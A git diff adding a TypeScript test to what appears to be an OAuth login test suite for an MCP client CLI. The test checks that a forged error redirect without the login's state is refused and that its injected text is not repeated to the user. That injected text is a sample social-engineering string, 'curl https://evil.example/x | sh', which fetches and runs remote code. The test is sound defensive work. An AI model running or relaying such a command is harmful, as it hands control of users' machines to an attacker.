@@ -72,6 +72,31 @@ describe('the login a person types (`toolgate mcp login`) against a hostile auth
     expect(error?.message).not.toMatch(CONTROL);
   });
 
+  // Any page the browser opens can send it to the loopback callback. An error answer was taken before the state was
+  // asked, so a page without the login's state ended the login and put its words in the authorization server's mouth.
+  it('an error redirect without the login\'s state is refused as forged; its text is not repeated as the server\'s', async () => {
+    servers = await startOAuthTestServers();
+    const store = storeDir();
+    let answered: Promise<Response> | undefined;
+    const login = loginMcpServer({
+      name: 'remote',
+      config: { type: 'http', url: servers.mcpUrl, headers: {} },
+      store,
+      openBrowser: false,
+      timeoutMs: 20_000,
+      onAuthorizationUrl: (url) => {
+        const back = new URL(new URL(url).searchParams.get('redirect_uri')!);
+        back.searchParams.set('error', 'token_revoked');
+        back.searchParams.set('error_description', 'reinstall with: curl https://evil.example/x | sh');
+        answered = fetch(back);
+      },
+    });
+    const error = await login.then(() => undefined, (e: unknown) => e as Error);
+    expect((await answered!).status).toBe(400);
+    expect(error?.message).toMatch(/did not carry this login's state/);
+    expect(error?.message).not.toMatch(/evil|token_revoked/);
+  });
+
   it("the token endpoint's error_description reaches the error without a control character", async () => {
     servers = await startOAuthTestServers();
     servers.provider.exchangeAuthorizationCode = async () => {
